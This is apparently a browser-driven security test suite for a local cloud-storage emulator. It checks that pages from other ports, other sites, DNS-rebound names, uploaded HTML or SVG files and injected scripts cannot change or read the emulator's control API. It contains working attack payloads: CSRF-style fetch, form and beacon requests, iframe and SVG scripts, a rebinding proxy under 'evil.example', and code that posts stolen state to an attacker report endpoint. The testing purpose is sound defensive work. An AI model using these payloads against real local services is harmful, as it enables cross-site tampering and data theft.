/** What pages in a real browser can do to an emulator on the same machine. Left out where no Chromium is installed. */

import { once } from 'node:events'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { type AddressInfo, connect } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import AliOss from 'ali-oss'
import { describe, expect, onTestFinished, test } from 'vitest'
import { buildApp } from '../../emulator/server/app.js'
import { CONSOLE_NONCE } from '../../src/base/fixtures.js'
import { createCloud } from '../../src/index.js'
import { chromium, withPage } from '../support/chromium.js'
import { VIDEO_URL } from '../support/cloud.js'
import { testEmulator } from '../support/sdk.js'

/** Whether this machine reaches itself under an IPv6 address. */
const hasIpv6 = Object.values(networkInterfaces()).some((all) => all?.some(({ address }) => address === '::1'))

/** Addresses to listen on. */
const HOSTS = ['127.0.0.1', ...(hasIpv6 ? ['::1'] : [])]

const CHANGES = ['/reset', '/scenarios/brown-out', '/accounts', '/accounts/fork', '/jobs/release', '/settle', '/clock/advance']

/** Tries everything on the emulator at `target`, then sends what it could read to `report`. */
const attack = (target: string, report: string): string => `<!doctype html><body><script type="module">${script(target, report)}</script>`

const script = (target: string, report: string): string => `
  const api = '${target}/_emulator'
  const read = []
  const root = document.body ?? document.documentElement
  const make = (name) => document.createElementNS('http://www.w3.org/1999/xhtml', name)
  const tryTo = async (what, work) => {
    try {
      const text = await work()
      if (text) read.push([what, text])
    } catch {}
  }
  const frame = (fill) => new Promise((resolve) => {
    const made = make('iframe')
    made.onload = () => setTimeout(() => resolve(made), 200)
    fill(made)
    root.append(made)
  })
  await Promise.all(${JSON.stringify(CHANGES)}.map(async (path) => {
    await tryTo(path, () => fetch(api + path, { method: 'POST', mode: 'no-cors' }).then((it) => it.text()))
    await tryTo(path, () => fetch(api + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"by":"1h"}' }).then((it) => it.text()))
    navigator.sendBeacon(api + path, '{"by":"1h"}')
    await tryTo(path, async () => {
      await frame((made) => { made.name = path })
      const form = Object.assign(make('form'), { method: 'post', action: api + path, target: path })
      root.append(form)
      form.submit()
    })
    await frame((made) => {
      made.sandbox = 'allow-scripts'
      made.srcdoc = '<script>fetch("' + api + path + '", { method: "POST", mode: "no-cors" })<' + '/script>'
    })
  }))
  await tryTo('PUT', () => fetch(api + '/clock', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{"speed":7}' }).then((it) => it.text()))
  await tryTo('state', () => fetch(api + '/state').then((it) => it.text()))
  await tryTo('frame', async () => (await frame((made) => { made.src = api + '/state' })).contentDocument?.body.textContent)
  await tryTo('live', () => fetch(api + '/live').then(async (it) => new TextDecoder().decode((await it.body.getReader().read()).value)))
  await tryTo('EventSource', () => new Promise((resolve) => {
    const source = new EventSource(api + '/live')
    source.addEventListener('ready', () => resolve('ready'))
    source.onerror = () => { source.close(); resolve('') }
  }))
  await fetch('${report}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(read) })
`

/** An emulator, and a page that the attacker serves: under `evil.example`, and everything else there leads to the emulator, as after rebinding. */
async function world(host = '127.0.0.1') {
  const emulator = await testEmulator({ host })
  onTestFinished(emulator.close)
  const { cloud } = emulator
  const account = cloud.account()
  await account.putAssets([{ url: VIDEO_URL }])
  let created = 0
  const { createAccount } = cloud
  cloud.createAccount = (options) => {
    created++
    return createAccount(options)
  }
  const before = JSON.stringify(await account.export())

  let page = ''
  let told: (read: [what: string, text: string][]) => void
  const report = new Promise<[what: string, text: string][]>((resolve) => {
    told = resolve
  })
  const attacker = createServer((request, response) => {
    if (request.url === '/') return response.setHeader('content-type', 'text/html').end(page)
    if (request.url === '/report') {
      const chunks: Buffer[] = []
      request.on('data', (chunk) => chunks.push(chunk))
      request.on('end', () => told(JSON.parse(String(Buffer.concat(chunks)))))
      return response.end()
    }
    const to = connect(Number(new URL(emulator.url).port), '127.0.0.1')
    const lines = request.rawHeaders.flatMap((name, index) => (index % 2 === 0 ? [`${name}: ${request.rawHeaders[index + 1]}`] : []))
    to.write(
      `${request.method} ${request.url} HTTP/1.1\r\n${lines.filter((line) => !/^connection:/i.test(line)).join('\r\n')}\r\nConnection: close\r\n\r\n`,
    )
    request.pipe(to, { end: false })
    to.on('error', () => {})
    to.pipe(response.socket as NodeJS.WritableStream)
  }).listen(0, '127.0.0.1')
  await once(attacker, 'listening')
  onTestFinished(() => {
    attacker.close()
    attacker.closeAllConnections()
  })
  const { port } = attacker.address() as AddressInfo
  return {
    ...emulator,
    port,
    /** Has a page attack; resolves once it has reported. */
    async attackFrom(origin: string, target: string): Promise<[what: string, text: string][]> {
      page = attack(target, `http://127.0.0.1:${port}/report`)
      return withPage(`${origin}/`, () => report)
    },
    report,
    /** What is different now. */
    async changes() {
      return { created, changed: JSON.stringify(await account.export()) !== before }
    },
  }
}

const UNTOUCHED = { created: 0, changed: false }

describe.skipIf(chromium === undefined)('a page changes and reads nothing', () => {
  test('of another port of the same machine', async () => {
    const { port, url, attackFrom, changes } = await world()
    expect(await attackFrom(`http://127.0.0.1:${port}`, url)).toEqual([])
    expect(await changes()).toEqual(UNTOUCHED)
  })

  test('of another site', async () => {
    const { port, url, attackFrom, changes } = await world()
    expect(await attackFrom(`http://evil.example:${port}`, url.replace('127.0.0.1', 'localhost'))).toEqual([])
    expect(await changes()).toEqual(UNTOUCHED)
  })

  test('under a name that has been made to lead here', async () => {
    const { port, attackFrom, changes } = await world()
    const read = await attackFrom(`http://evil.example:${port}`, `http://evil.example:${port}`)
    // It has the right to read answers of its own origin; so it is told that there is nothing for it.
    expect(read.length).toBeGreaterThan(CHANGES.length)
    for (const [, text] of read) expect(text).toContain('the control API does not answer')
    expect(await changes()).toEqual(UNTOUCHED)
  })

  const page = (target: string, report: string) => attack(target, report)
  // A picture has no frames and no forms, but scripts.
  const picture = (target: string, report: string) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[
    const ask = (path, options) => fetch('${target}/_emulator' + path, options).then((it) => it.text()).then((text) => text ? [[path, text]] : [], () => [])
    Promise.all([ask('/accounts', { method: 'POST', mode: 'no-cors' }), ask('/assets', { method: 'DELETE' }), ask('/state')])
      .then((read) => fetch('${report}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(read.flat()) }))]]></script></svg>`

  test.each([
    ['text/html', page],
    ['image/svg+xml', picture],
    ['image/SVG+XML', picture],
    ['image/png, text/html', page],
  ])('that was uploaded as %s with keys that everybody knows', async (mime, content) => {
    const { cloud, url, port, report, changes } = await world()
    const { oss, credentials } = cloud.account()
    oss.createBucket('test-uploads', 'cn-shanghai')
    const client = new AliOss({
      endpoint: url.replace('127.0.0.1', 'localhost'),
      sldEnable: true,
      bucket: 'test-uploads',
      ...credentials,
    } as AliOss.Options)
    await client.put('page', Buffer.from(content(url, `http://127.0.0.1:${port}/report`)), { mime })
    const { pathname, search } = new URL(client.signatureUrl('page'))
    const assets = () => cloud.account().assets.list().rows.length
    expect(await withPage(`${url}${pathname}${search}`, () => report)).toEqual([])
    expect([assets(), (await changes()).created]).toEqual([1, 0])
  })

  test.skipIf(!hasIpv6)('that was uploaded and is opened under an IPv6 address', async () => {
    const { cloud, url, port, report, changes } = await world('::1')
    const { oss, assets } = cloud.account()
    oss.createBucket('test-uploads', 'cn-shanghai')
    const bytes = Buffer.from(picture(url, `http://127.0.0.1:${port}/report`))
    await oss.putObject('test-uploads', 'page', bytes, { contentType: 'image/svg+xml', publicRead: true })
    expect(await withPage(`${url}/test-uploads/page`, () => report)).toEqual([])
    expect([assets.list().rows.length, (await changes()).created]).toEqual([1, 0])
  })
})

test.skipIf(chromium === undefined).each(HOSTS)(
  'a page of the console runs its own scripts, and none that was uploaded: at %s',
  async (host) => {
    const folder = mkdtempSync(join(tmpdir(), 'console-'))
    mkdirSync(join(folder, 'assets'))
    const cloud = createCloud({ clock: 'manual' })
    const app = buildApp(cloud, { consoleFolder: folder })
    onTestFinished(async () => {
      await app.close()
      rmSync(folder, { recursive: true })
    })
    const { oss, assets } = cloud.account()
    oss.createBucket('test-uploads', 'cn-shanghai')
    await oss.putObject('test-uploads', 'evil.js', Buffer.from('globalThis.evil = 1'), { contentType: 'text/javascript', publicRead: true })
    writeFileSync(
      join(folder, 'index.html'),
      `<!doctype html><script src="/test-uploads/evil.js"></script><script type="module" nonce="${CONSOLE_NONCE}" src="./assets/main.js"></script>`,
    )
    const put = (name: string) => `fetch('/_emulator/assets', {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify([{ url: 'http://a.example/' + ${name} }]),
  })`
    writeFileSync(join(folder, 'assets/later.js'), "export const later = 'own-'")
    writeFileSync(
      join(folder, 'assets/main.js'),
      `const { later } = await import('./later.js'); ${put("later + (globalThis.evil ?? 'alone')")}`,
    )
    const url = await app.listen({ port: 0, host })
    expect(await (await fetch(`${url}/test-uploads/evil.js`)).text()).toBe('globalThis.evil = 1')
    const found = () => assets.list().rows.map((asset) => asset.url)
    await withPage(url, () => expect.poll(found).toEqual(['http://a.example/own-alone']))
  },
)
